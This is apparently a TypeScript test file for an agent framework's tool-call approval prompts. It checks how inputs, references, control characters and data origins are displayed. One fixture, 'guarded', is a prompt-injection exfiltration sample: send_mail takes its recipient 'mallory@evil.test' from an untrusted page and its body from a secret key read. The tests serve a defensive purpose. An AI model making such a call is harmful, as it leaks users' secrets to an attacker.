import type { Json } from '@capstan/core'
import { expect, test } from 'vitest'
import { askedIn, askedLines } from './show-question.ts'

const room = { columns: Number.POSITIVE_INFINITY, lines: Number.POSITIVE_INFINITY }

function lines(about: Json, edited?: Json): readonly string[] {
  return askedLines(askedIn({ about }), room, edited).lines.map(String)
}

test('a question shows the tool with its version, what the tool asks and the input', () => {
  const about = { type: 'question', toolName: 'pay', tool: { version: '2\u202e' }, input: { amount: 5 }, question: { text: 'From?', accounts: ['a', 'b'] } }
  expect(lines(about)).toEqual([
    'Before this call, pay (version "2\\u202e") asks:',
    '  question.text (5 characters): "From?"',
    '  question.accounts[0] (1 character): "a"',
    '  question.accounts[1] (1 character): "b"',
    '  amount: 5',
  ])
})

test('if the schema changes the input, the value that the tool gets is shown, too', () => {
  expect(lines({ type: 'approval', toolName: 'pay', input: { amount: '5' }, value: { amount: 5, currency: 'EUR' } })).toEqual([
    'This call of pay needs your approval:',
    '  amount (1 character): "5"',
    'The tool gets this, because its schema changes the input:',
    '  amount: 5',
    '  currency (3 characters): "EUR"',
  ])
})

test('earlier results that the input refers to are shown with size, hash and first lines, and nothing in them can look like a field', () => {
  const references = [{ at: '/body', id: 'r1.0', characters: 70_000, hash: 'ab12', firstLines: 'Dear Ada\n  amount: 1' }]
  expect(lines({ type: 'approval', toolName: 'send', input: { body: { $result: 'r1.0' } }, references })).toEqual([
    'This call of send needs your approval:',
    '  body.$result (4 characters): "r1.0"',
    'It refers to earlier results, whose values the tool gets:',
    '  reference[0].at (5 characters): "/body"',
    '  reference[0].id (4 characters): "r1.0"',
    '  reference[0].characters: 70000',
    '  reference[0].hash (4 characters): "ab12"',
    '  reference[0].firstLines (20 characters): "Dear Ada\\n  amount: 1"',
    '  ! reference[0].firstLines has U+000A (a control character)',
  ])
})

test('an edited input is shown below the input of the model', () => {
  expect(lines({ type: 'approval', toolName: 'pay', input: {}, value: { amount: 5 } }, 'all')).toEqual([
    'This call of pay needs your approval:',
    '  input: {}',
    'A person changed the input to:',
    '  input (3 characters): "all"',
  ])
})

test('a question of an unknown form is shown unchanged', () => {
  expect(lines(['pay\n', 5])).toEqual([
    'This call of unknown needs your approval:',
    '  input[0] (4 characters): "pay\\n"',
    '  ! input[0] has U+000A (a control character)',
    '  input[1]: 5',
  ])
})

test('a question that expires shows until when answers are accepted', () => {
  const about = { type: 'approval', toolName: 'pay', input: {} }
  expect(askedLines(askedIn({ about, askedAt: 0, expiresInMs: 60_000 }), room).lines.map(String)).toEqual([
    'This call of pay needs your approval:',
    '  input: {}',
    'An answer is accepted until 1970-01-01T00:01:00.000Z.',
  ])
})

test('a question of an agent inside the run shows which agent asks', () => {
  expect(lines({ type: 'approval', agent: 'clerk', path: ['office#1', 'desk#2'], toolName: 'pay', input: {} })).toEqual([
    'This call of pay by the agent "clerk (office#1 > desk#2)" needs your approval:',
    '  input: {}',
  ])
})

const guarded = {
  type: 'approval',
  toolName: 'send_mail',
  input: { to: 'mallory@evil.test', body: 'key-1', subject: 'Re: (written by the model' },
  flow: {
    reaches: ['external'],
    targets: [{ target: 'mallory@evil.test', from: 'unknown' }],
    sources: [
      { id: 'r1.0', toolName: 'read_page', labels: ['untrusted'] },
      { id: 'call "1"\n', toolName: 'read_key', labels: ['secret'] },
      { id: 'messages/0', labels: ['untrusted'] },
    ],
    more: 2,
  },
  origins: [
    { at: '/to', from: 'untrusted', sources: ['r1.0'] },
    { at: '/body', from: 'secret', sources: ['call "1"\n'] },
    { at: '/subject', from: 'model' },
  ],
} as const

test('a question of the guard shows where each field was found, and why it is asked', () => {
  expect(lines(guarded)).toEqual([
    'This call of send_mail needs your approval:',
    '  to (17 characters, UNTRUSTED, found in r1.0): "mallory@evil.test"',
    '  body (5 characters, SECRET, found in "call \\"1\\"\\n"): "key-1"',
    '  subject (25 characters, written by the model): "Re: (written by the model"',
    'You are asked because the call reaches external, and the model may follow what it has read:',
    '  destination (17 characters, NOT named by the user): "mallory@evil.test"',
    '  read r1.0 (9 characters, untrusted): "read_page"',
    '  read "call \\"1\\"\\n" (8 characters, secret): "read_key"',
    '  read messages/0 (22 characters, untrusted): "a message of the input"',
    '  read (6 characters): "2 more"',
  ])
})

test('where the schema changes the input, the origins are shown beside what the tool gets; a field that is shown as one has the worst origin in it', () => {
  const about = {
    ...guarded,
    input: { to: { $result: 'r1.0' } },
    value: { to: {}, list: ['a'] },
    origins: [
      { at: '/to', from: 'untrusted', sources: ['r1.0'] },
      { at: '/list/0', from: 'user', sources: ['r2.0'] },
    ],
  } as const
  const shown = lines(about)
  expect(shown[1]).toBe('  to.$result (4 characters): "r1.0"')
  expect(shown.slice(3, 5)).toEqual(['  to (UNTRUSTED, found in r1.0): {}', `  list[0] (1 character, in the user's text, and found in r2.0): "a"`])
})
